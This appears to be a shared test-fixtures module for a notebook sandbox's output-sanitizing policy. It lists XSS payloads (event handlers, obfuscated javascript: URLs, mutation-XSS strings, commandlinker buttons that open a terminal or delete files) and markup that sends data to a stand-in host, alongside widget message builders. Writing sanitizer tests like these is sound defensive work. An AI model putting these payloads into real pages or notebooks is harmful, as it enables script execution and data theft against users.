"""Pieces the output policy's test modules share: hostile markup, widget comm messages as
ipywidgets 8.1 writes them, and a matplotlib figure as SVG (test modules do not import each other)."""

from __future__ import annotations

from sandbox_kernel.core.events import Comm
from sandbox_kernel.policy.widgets.types import table

# -- hostile HTML ----------------------------------------------------------------------------------------
HANDLERS = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "onbegin", "ontoggle",
            "onpointerenter", "onbeforetoggle", "onwheel", "ONERROR", "OnLoad"]
JS_URLS = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "jav&#x09;ascript:alert(1)",
           "jav&#x0A;ascript:alert(1)", "&#106;avascript:alert(1)", "\x01javascript:alert(1)",
           "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
           "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="]
HOSTILE_HTML = [
    "<script>alert(1)</script>", "<SCRIPT SRC=http://x.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    *(f'<img src=x {h}="alert(1)">' for h in HANDLERS),
    *(f'<div {h}="alert(1)">x</div>' for h in HANDLERS),
    "<img/src=x/onerror=alert(1)>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
    *(f'<a href="{u}">x</a>' for u in JS_URLS), *(f'<img src="{u}">' for u in JS_URLS),
    *(f'<area href="{u}">' for u in JS_URLS),
    '<img srcset="javascript:alert(1) 1x">', '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">x</button>', '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">', '<link rel="import" href="http://x.example/x.html">',
    '<svg><script>alert(1)</script></svg>', '<svg onload="alert(1)"></svg>', '<svg><a xlink:href="javascript:alert(1)">'
    '<text>x</text></a></svg>', '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<div style="background:url(javascript:alert(1))">x</div>', '<div style="width:expression(alert(1))">x</div>',
    '<div style="behavior:url(x.htc)">x</div>', '<div style="-moz-binding:url(x.xml#x)">x</div>',
    '<style>@import "http://x.example/x.css";</style>', '<style>b{background:url("javascript:alert(1)")}</style>',
    '<button data-commandlinker-command="terminal:create-new">open</button>',
    '<a data-commandlinker-command="filebrowser:delete" data-commandlinker-args="{}">click</a>',
    '<template><script>alert(1)</script></template>', '<marquee onstart=alert(1)>x</marquee>',
    '<input autofocus onfocus=alert(1)>', '<video><source onerror="alert(1)"></video>', '<audio src=x onerror=alert(1)>',
]
EXFILTRATION = [
    '<img src="https://x.example/?d=SECRET">', '<img src="//x.example/x">', '<img src="/files/secret.png">',
    '<img srcset="https://x.example/x 1x">', '<picture><source srcset="https://x.example/x"><img></picture>',
    '<link rel="stylesheet" href="https://x.example/x.css">', '<video poster="https://x.example/x"></video>',
    '<audio src="https://x.example/x"></audio>', '<input type="image" src="https://x.example/x">',
    '<table background="https://x.example/x"><tr><td>1</td></tr></table>', '<body background="https://x.example/x">',
    '<div style="background-image:url(https://x.example/x)">x</div>', '<div style="background:url(//x.example/x)">x</div>',
    '<div style="list-style:url(https://x.example/x)">x</div>', '<div style="cursor:url(https://x.example/x),auto">x</div>',
    '<style>.a{background:url(https://x.example/x)}</style>', '<style>@font-face{font-family:x;src:url(https://x.example/f)}</style>',
    '<style>@import url(https://x.example/x.css);</style>', '<style>@media screen{.a{background:url(https://x.example/x)}}</style>',
    '<div style="background-image:image-set(\'https://x.example/x\' 1x)">x</div>', '<object data="https://x.example/x"></object>',
    '<svg><image href="https://x.example/x.png"/></svg>', '<svg><use href="https://x.example/x.svg#a"/></svg>',
    '<embed src="https://x.example/x">', '<iframe src="https://x.example/"></iframe>',
]
NOT_HTML_IN_A_BROWSER_EITHER = {  # parsed as a fragment, as innerHTML does: nothing active to remove
    "<scr<script>ipt>alert(1)</script>",  # a tag named "scr<script"
    "<body onload=alert(1)>", '<body background="https://x.example/x">',  # <body> is ignored in a fragment
    "<img/src=x/onerror=alert(1)>",  # one attribute: src="x/onerror=alert(1)", a relative path
}

# -- widget comm messages -------------------------------------------------------------------------------
CONTROLS, BASE, OUTPUT = "@jupyter-widgets/controls", "@jupyter-widgets/base", "@jupyter-widgets/output"


def classes(name: str, module: str = CONTROLS) -> dict:
    """The class keys ipywidgets 8.1 sends for a model."""
    kind = table()[f"{module}:{name}"]
    view_module, view_version, view_name = kind.views[0]
    return {"_model_module": module, "_model_module_version": kind.version, "_model_name": name,
            "_view_module": view_module, "_view_module_version": view_version, "_view_name": view_name}


def opening(comm_id: str, name: str, module: str = CONTROLS, buffer_paths=(), buffers=(), **state) -> Comm:
    return Comm("comm_open", {"comm_id": comm_id, "target_name": "jupyter.widget", "data": {
        "state": {**classes(name, module), **state}, "buffer_paths": list(buffer_paths)}},
        {"version": "2.1.0"}, tuple(buffers))


def update(comm_id: str, method: str = "update", buffer_paths=(), buffers=(), **state) -> Comm:
    return Comm("comm_msg", {"comm_id": comm_id, "data": {"method": method, "state": state,
                                                        "buffer_paths": list(buffer_paths)}}, {}, tuple(buffers))


def state_of(verdict) -> dict:
    event, _, _ = verdict
    return event.content["data"]["state"]



# -- a figure ------------------------------------------------------------------------------------------------
def matplotlib_svg(title: str = "Title") -> str:
    """A small matplotlib figure as SVG (matplotlib's own SVG backend)."""
    import io

    import matplotlib

    matplotlib.use("svg")
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots(figsize=(2, 1))
    ax.plot([1, 3, 2])
    ax.set_title(title)
    buffer = io.StringIO()
    fig.savefig(buffer, format="svg")
    plt.close(fig)
    return buffer.getvalue()
